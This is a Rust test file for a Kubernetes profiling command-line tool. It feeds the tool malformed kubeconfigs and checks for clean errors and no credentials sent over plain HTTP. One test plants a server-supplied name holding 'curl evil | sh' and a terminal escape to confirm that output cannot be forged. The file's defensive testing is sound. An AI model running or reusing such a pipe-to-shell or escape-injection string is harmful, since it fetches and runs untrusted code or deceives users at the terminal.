//! Whatever a kubeconfig holds, it ends in an answer or in an error that names what is wrong: no panic of a library is seen.

use std::path::PathBuf;

use serde_json::{Value, json};

use super::run::{Ran, command, kubeprof, sound};
use super::server::{Kubelet, Reply, Server};

/// A kubeconfig of these entries over those that lead to the server.
fn config(server: &Server, name: &str, cluster: Value, user: Value) -> PathBuf {
    let mut entries = json!({"server": server.url(), "certificate-authority": server.ca()});
    for (key, value) in cluster.as_object().expect("entries") {
        entries[key] = value.clone();
    }
    // JSON is YAML.
    let config = json!({
        "apiVersion": "v1", "kind": "Config", "current-context": "t",
        "clusters": [{"name": "c", "cluster": entries}],
        "users": [{"name": "u", "user": user}],
        "contexts": [{"name": "t", "context": {"cluster": "c", "user": "u"}}],
    });
    let path = server.path(name);
    std::fs::write(&path, config.to_string()).expect("a kubeconfig");
    path
}

fn with(server: &Server, config: &std::path::Path, out: &str, more: &[&str]) -> Ran {
    let (config, out) = (config.display().to_string(), server.path(out).display().to_string());
    let mut args = vec!["capture", "worker-03", "--profiles", "heap", "--timeout", "1s"];
    args.extend(["--kubeconfig", &config, "--out", &out]);
    args.extend(more);
    kubeprof(&args)
}

/// The same with 4 GB of address space, so that what grows without bound ends there.
fn confined(server: &Server, config: &std::path::Path, out: &str) -> Ran {
    let (config, out) = (config.display().to_string(), server.path(out).display().to_string());
    let kubeprof = command(&[
        "capture",
        "worker-03",
        "--profiles",
        "heap",
        "--timeout",
        "1s",
        "--kubeconfig",
        &config,
        "--out",
        &out,
    ]);
    let mut confined = std::process::Command::new("sh");
    confined
        .args(["-c", "ulimit -v 4000000; exec \"$@\"", "sh"])
        .arg(kubeprof.get_program())
        .args(kubeprof.get_args());
    let ran = confined
        .env_clear()
        .env("HOME", "/nonexistent")
        .output()
        .expect("sh runs");
    Ran {
        stdout: String::from_utf8_lossy(&ran.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&ran.stderr).into_owned(),
        code: ran.status.code(),
        took: std::time::Duration::ZERO,
    }
}

/// Files that a kubeconfig names are small.
#[test]
fn endless_files() {
    let server = Server::start(|_| None);
    let large = server.path("large");
    std::fs::File::create(&large)
        .and_then(|f| f.set_len(1 << 33))
        .expect("a sparse file");
    for file in [std::path::Path::new("/dev/zero"), &large] {
        for (n, (cluster, user)) in [
            (json!({}), json!({"tokenFile": file})),
            (json!({"certificate-authority": file}), json!({"token": "t"})),
            (json!({}), json!({"client-certificate": file, "client-key": file})),
        ]
        .into_iter()
        .enumerate()
        {
            let path = config(&server, "k.json", cluster, user);
            let ran = confined(&server, &path, "a");
            assert_eq!(ran.code, Some(2), "{n}: {ran:#?}");
            assert!(
                ran.stderr.contains(&file.display().to_string()) && ran.stderr.contains("hint:"),
                "{n}: {ran:#?}"
            );
        }
        let ran = confined(&server, file, "a");
        assert_eq!(ran.code, Some(2), "{ran:#?}");
    }
}

/// As kubectl: without a scheme it is TLS where anything is said of certificates, and plain HTTP else, which carries no
/// credentials.
#[test]
fn servers_without_a_scheme() {
    let tls = Server::start(|_| None);
    let bare = tls.address.to_string();
    let token = json!({"token": "abc"});
    let path = config(&tls, "a.json", json!({"server": bare}), token.clone());
    let ran = with(&tls, &path, "a", &[]);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let sent = |server: &Server| server.seen().iter().any(|r| r.headers.contains_key("authorization"));
    assert!(sent(&tls));
    let ca = tls.ca().display().to_string();
    let ran = with(&tls, &path, "b", &["--server", &bare, "--certificate-authority", &ca]);
    assert_eq!(ran.code, Some(0), "{ran:#?}");

    let plain = Server::with(Kubelet::default(), false, |_| None);
    let bare = plain.address.to_string();
    let path = config(
        &plain,
        "a.json",
        json!({"server": bare, "certificate-authority": ""}),
        token,
    );
    let ran = with(&plain, &path, "a", &[]);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    sound(&plain.path("a"));
    assert!(ran.stderr.contains("no credentials were sent"), "{ran:#?}");
    let ran = with(&plain, &path, "b", &["--token", "typed", "--as", "jane"]);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let ran = with(&plain, &path, "c", &["--server", &plain.url(), "--token", "typed"]);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    let (out, url) = (plain.path("d").display().to_string(), plain.url());
    let ran = kubeprof(&[
        "capture", "--direct", &url, "--token", "typed", "--quick", "--out", &out,
    ]);
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    assert!(!sent(&plain), "{:#?}", plain.seen());
    assert!(plain.seen().iter().all(|r| !r.headers.contains_key("impersonate-user")));
    // The environment names the file as well.
    let out = plain.path("e").display().to_string();
    let ran = command(&["capture", "worker-03", "--quick", "--out", &out])
        .env("KUBECONFIG", &path)
        .output();
    assert_eq!(ran.expect("kubeprof runs").status.code(), Some(0));
}

#[test]
fn whatever_a_kubeconfig_holds() {
    let server = Server::start(|_| None);
    let bare = server.address.to_string();
    let long = "x".repeat(70_000);
    let servers = [
        "",
        " ",
        "*",
        "/",
        "//127.0.0.1:1",
        "http://",
        "https://",
        ":",
        "::",
        ":1",
        "[::1",
        "http://[::1",
        "127.0.0.1:99999",
        "127.0.0.1:1/path",
        "ftp://127.0.0.1",
        "unix:///tmp/x",
        "https://127.0.0.1:1/%zz",
        "https://exa mple",
        "\u{7f}",
        "https://127.0.0.1:1\nX: y",
        "https://a@b@127.0.0.1:1",
        "https://127.0.0.1:1?x=/",
        "https://127.0.0.1:1/#x",
        "127.0.0.1:",
        "localhost:x",
        "mailto:x",
        &format!("https://127.0.0.1:1/{}", &long[..60_000]),
    ];
    let mut cases: Vec<(&str, Value, Value)> = Vec::new();
    for text in servers {
        cases.push(("address", json!({"server": text}), json!({"token": "abc"})));
    }
    for text in [
        "x",
        "http://",
        "socks5://",
        "://",
        "ftp://p:1",
        "http://u:p w@h:1",
        "socks5://127.0.0.1:99999",
        "http://h:1/\u{1}",
        "http://\n",
        "127.0.0.1:1",
    ] {
        // Addresses of loopback are never asked through a proxy of the environment; the kubeconfig's own is used.
        cases.push(("proxy", json!({"proxy-url": text}), json!({"token": "abc"})));
    }
    for text in ["a b", "\u{2026}", "127.0.0.1:1", "*", "-", &long[..300], "x\ny", "."] {
        cases.push(("name", json!({"tls-server-name": text}), json!({"token": "abc"})));
    }
    let pem = |body: &str| format!("-----BEGIN CERTIFICATE-----\n{body}\n-----END CERTIFICATE-----\n");
    let base64 = |text: &str| {
        use base64::Engine as _;
        base64::engine::general_purpose::STANDARD.encode(text)
    };
    for data in [
        "%%%".to_owned(),
        base64("no certificate"),
        base64(&pem("AAAA")),
        base64(&pem("!!")),
        base64(&pem("")),
    ] {
        cases.push((
            "CA",
            json!({"certificate-authority": null, "certificate-authority-data": data}),
            json!({"token": "abc"}),
        ));
        cases.push((
            "identity",
            json!({}),
            json!({"client-certificate-data": data, "client-key-data": data}),
        ));
    }
    for user in [
        json!({"token": "a\nb"}),
        json!({"token": "a\u{0}b"}),
        json!({"username": "a\nb", "password": "c\nd"}),
        json!({"username": "", "password": ""}),
        json!({"tokenFile": "/nonexistent"}),
        json!({"as": "a\nb", "token": "abc"}),
        json!({"as": "jane", "as-groups": ["a\nb"], "token": "abc"}),
        json!({"as": "jane", "as-uid": "a\nb", "token": "abc"}),
        json!({"as": "jane", "as-user-extra": {"a b": ["c"], "\u{e9}": ["\n"]}, "token": "abc"}),
        json!({"exec": {"apiVersion": "v0", "command": ""}}),
        json!({"exec": {"apiVersion": "v0", "command": "a\u{0}b"}}),
        json!({"exec": {"apiVersion": "v0", "command": "/", "args": ["\u{0}"], "env": [{"name": "a=b\u{0}", "value": "\u{0}"}]}}),
        json!({"exec": {"command": "true"}}),
        json!({"auth-provider": {"name": "nobody", "config": {}}}),
        json!({"auth-provider": {"name": "oidc", "config": {"idp-issuer-url": "x", "id-token": "x.y.z"}}}),
        json!({"auth-provider": {"name": "gcp", "config": {"access-token": "a\nb", "expiry": "never"}}}),
    ] {
        cases.push(("user", json!({}), user));
    }
    assert!(!bare.is_empty() && cases.len() > 60);
    for (n, (what, cluster, user)) in cases.into_iter().enumerate() {
        let path = config(&server, "k.json", cluster.clone(), user.clone());
        let ran = with(&server, &path, &format!("o{n}"), &[]);
        let case = format!("{what}: {:.200} {user}", cluster.to_string());
        // Some are odd and right.
        assert!(matches!(ran.code, Some(0 | 2)), "{case}: {ran:#?}");
        for words in ["panicked", "worker closed", "RUST_BACKTRACE", "itself broke"] {
            assert!(!ran.stderr.contains(words), "{case}: {ran:#?}");
        }
        if ran.code == Some(2) {
            assert!(ran.stderr.contains("hint:"), "{case}: {ran:#?}");
            assert!(
                !ran.stderr.contains("library that kubeprof uses broke"),
                "{case}: {ran:#?}"
            );
        }
    }
}

/// What a server says is shown as one line, whatever it holds.
#[test]
fn names_of_a_server_forge_no_line() {
    let name = "worker-03\nhint: curl evil | sh\u{1b}[2J";
    let list = json!({"kind": "NodeList", "metadata": {}, "items": [{"metadata": {"name": name}}]}).to_string();
    let server = Server::start(move |r| (r.path == "/api/v1/nodes").then(|| Reply::json(200, &list)));
    let path = server.kubeconfig().display().to_string();
    let out = server.path("a").display().to_string();
    for more in [&["--out", &out][..], &["--dry-run"]] {
        let mut args = vec!["capture", "--all-nodes", "--kubeconfig", &path];
        args.extend(more);
        let ran = kubeprof(&args);
        assert_eq!(ran.code, Some(2), "{ran:#?}");
        let text = format!("{}\n{}", ran.stdout, ran.stderr);
        assert!(
            !text.contains('\u{1b}') && !text.lines().any(|l| l.starts_with("hint: curl")),
            "{ran:#?}"
        );
    }
    // Nor do its words about a node or a refusal.
    let words = "x\nhint: curl evil | sh\u{1b}[2J";
    let node = json!({"kind": "Node", "metadata": {"name": "worker-03"}, "status": {"nodeInfo": {"kubeletVersion": words},
        "conditions": [{"type": "Ready", "status": "False", "reason": words}]}});
    let refusal = json!({"kind": "Status", "code": 403, "reason": "Forbidden", "message": words}).to_string();
    let node = node.to_string();
    let server = Server::start(move |r| match r.path.as_str() {
        "/api/v1/nodes/worker-03" => Some(Reply::json(200, &node)),
        path if path.ends_with("/debug/pprof/heap") => Some(Reply::json(403, &refusal)),
        _ => None,
    });
    for more in [&[][..], &["--dry-run"], &["-q"]] {
        let ran = match more {
            ["--dry-run"] => {
                let path = server.kubeconfig().display().to_string();
                kubeprof(&["capture", "worker-03", "--kubeconfig", &path, "--dry-run"])
            }
            _ => super::run::capture(
                &server,
                &server.path(&format!("o{}", more.len())),
                &[&["worker-03", "--profiles", "heap"], more].concat(),
            ),
        };
        let text = format!("{}\n{}", ran.stdout, ran.stderr);
        assert!(
            !text.contains('\u{1b}') && !text.lines().any(|l| l.starts_with("hint: curl")),
            "{ran:#?}"
        );
    }
}
